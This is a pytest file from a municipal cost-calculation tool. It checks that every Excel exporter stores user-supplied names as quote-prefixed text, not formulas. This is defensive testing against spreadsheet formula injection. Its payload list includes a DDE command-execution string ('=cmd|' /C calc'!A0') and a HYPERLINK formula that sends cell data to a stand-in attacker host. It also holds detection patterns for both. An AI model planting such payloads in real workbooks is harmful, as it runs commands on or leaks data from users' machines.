"""Issue #10 item 4: every exporter writes user text as text. A name like ``=HYPERLINK(...)`` or
``=cmd|' /C calc'!A0`` (and text starting with + - @ tab CR) is a text cell with Excel's quote prefix, never a
formula — in the grex, programme, bijdrage and kostenverhaal (A5) workbooks and the grex and case templates."""
from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from opengrex.io.xlsx_cells import Formula, append_row, formula_text, put, text_cell

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1+1", "\r=2+2"]


def load(p: Path) -> dict:
    return json.loads(json.dumps(yaml.safe_load(p.read_text(encoding="utf-8")), default=str))


def assert_text_everywhere(path: Path, payloads: list[str]) -> int:
    """Every cell holding a payload is a text cell with the quote prefix; no formula contains a payload."""
    wb = openpyxl.load_workbook(path)
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and any(p.strip() in c.value for p in payloads):
                    if c.data_type == "f":
                        raise AssertionError(f"{ws.title}!{c.coordinate} is a formula: {c.value!r}")
                    if c.value in [v for p in payloads for v in (p, p.strip(), p.replace("\r", "\n"))]:  # XML reads CR as LF
                        found += 1
                        assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                for f in ("HYPERLINK(&quot;http://evil", "cmd|", "HYPERLINK(\"http://evil"):
                    assert f"<f>{f}" not in xml and "<f>" + f not in xml
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_grex_export_and_template(tmp_path, payload):
    from opengrex.io.xlsx_export import export_grex_xlsx
    from opengrex.io.xlsx_template import grex_to_template
    from opengrex.services.grex import grex_from_dict

    d = load(ROOT / "examples" / "demo-grex.yaml")
    d["naam"] = payload
    d["kosten"][0]["naam"] = payload
    d["kosten"][0]["notitie"] = payload
    grex = grex_from_dict(d)
    export_grex_xlsx(grex, tmp_path / "g.xlsx")
    assert assert_text_everywhere(tmp_path / "g.xlsx", [payload]) >= 2
    grex_to_template(grex, tmp_path / "t.xlsx")
    assert assert_text_everywhere(tmp_path / "t.xlsx", [payload]) >= 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_programme_export(tmp_path, payload):
    from opengrex.io.xlsx_programma import export_programme_xlsx, import_programme_xlsx
    from opengrex.services.programma import load_programme

    prog = load_programme(ROOT / "examples" / "hart-van-de-heuvelrug" / "mastergrex-2013.yaml")
    prog.name = payload
    prog.projecten[0].grex.kosten[0].name = payload
    prog.projecten[0].grex.kosten[0].note = payload
    export_programme_xlsx(prog, tmp_path / "p.xlsx")
    assert assert_text_everywhere(tmp_path / "p.xlsx", [payload]) >= 2
    back = import_programme_xlsx(tmp_path / "p.xlsx")  # and it reads back as the same text
    assert back.projecten[0].grex.kosten[0].name.replace("\n", "\r") == payload.replace("\n", "\r") or back.projecten[0].grex.kosten[0].name == payload.strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_bijdrage_export(tmp_path, payload):
    from opengrex.services.bijdrage import bijdrage_input_from_dict, calculate_bijdrage, write_bijdrage_xlsx

    d = load(ROOT / "examples" / "kostenverhaal" / "soest-bijdrage-illustratief.yaml")
    d["naam"] = payload
    d["investeringen"][0]["naam"] = payload
    d["plannen"][0]["naam"] = payload
    write_bijdrage_xlsx(calculate_bijdrage(bijdrage_input_from_dict(d)), tmp_path / "b.xlsx")
    assert assert_text_everywhere(tmp_path / "b.xlsx", [payload]) >= 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_kostenverhaal_a5_export_and_case_template(tmp_path, payload):
    from opengrex.io.xlsx_case import case_to_template
    from opengrex.io.xlsx_kostenverhaal import write_case_xlsx
    from opengrex.services.kostenverhaal import calculate_case, load_case

    src = load(ROOT / "examples" / "kostenverhaal" / "voorbeeld-2.yaml")
    for party in ("initiatiefnemer", "gemeente"):
        for line in src.get(party, {}).get("kosten", []):
            line["omschrijving"] = payload
    p = tmp_path / "geval.yaml"
    p.write_text(yaml.safe_dump(src, allow_unicode=True), encoding="utf-8")
    case = load_case(p)
    write_case_xlsx(calculate_case(case), tmp_path / "a5.xlsx")
    assert assert_text_everywhere(tmp_path / "a5.xlsx", [payload]) >= 1
    case_to_template(case, tmp_path / "t.xlsx")
    assert assert_text_everywhere(tmp_path / "t.xlsx", [payload]) >= 1


def test_cell_helpers():
    ws = openpyxl.Workbook().active
    assert put(ws, 1, 1, "=1+1").data_type == "s" and ws["A1"].quotePrefix
    assert put(ws, 1, 2, Formula("=1+1")).data_type == "f"
    assert put(ws, 1, 3, 5).value == 5 and text_cell(ws, 1, 4, "gewoon").quotePrefix is False
    row = append_row(ws, ["=A1", Formula("=B1"), None, 3.5])
    assert row == 2 and ws["A2"].data_type == "s" and ws["B2"].data_type == "f" and ws["D2"].value == 3.5
    assert append_row(ws, []) == 3 and append_row(ws, ["x"]) == 4  # an empty row keeps its place
    assert formula_text('a"),HYPERLINK("x') == '"a""),HYPERLINK(""x"'
    buf = io.BytesIO()
    ws.parent.save(buf)
